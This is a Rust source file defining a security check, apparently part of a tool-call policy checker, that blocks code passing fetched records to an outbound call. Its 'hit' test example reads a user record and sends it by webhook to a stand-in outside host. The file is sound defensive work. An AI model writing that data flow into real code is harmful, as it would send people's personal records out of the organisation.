//! Data that flows from where it is read to somebody else.

use crate::check::{Check, Context, leaks};
use crate::feature::leak::LeakKind;
use crate::rule::Match;
use crate::value::severity::Severity;
use crate::value::verdict::Action;

/// The check.
pub const CHECK: Check = Check {
    id: "exfiltration-flow",
    category: "exfiltration",
    severity: Severity::Critical,
    action: Action::Block,
    why: "Records that are read and flow into a call that leads outside leave the organisation for good.",
    help: "Send only what the receiver needs, to a place of your own (`trusted` in callgate.yaml), or return the records instead.",
    hit: "const user = await callTool('users:get', { id: 7 });\nawait callTool('webhook:send', { url: 'https://collector.example.net', body: user });\n",
    miss: "const user = await callTool('users:get', { id: 7 });\nawait callTool('webhook:send', { url: 'https://collector.example.net', body: 'done' });\n",
    run,
};

fn run(context: &Context<'_>) -> Vec<Match> {
    leaks(context, LeakKind::Plain)
}
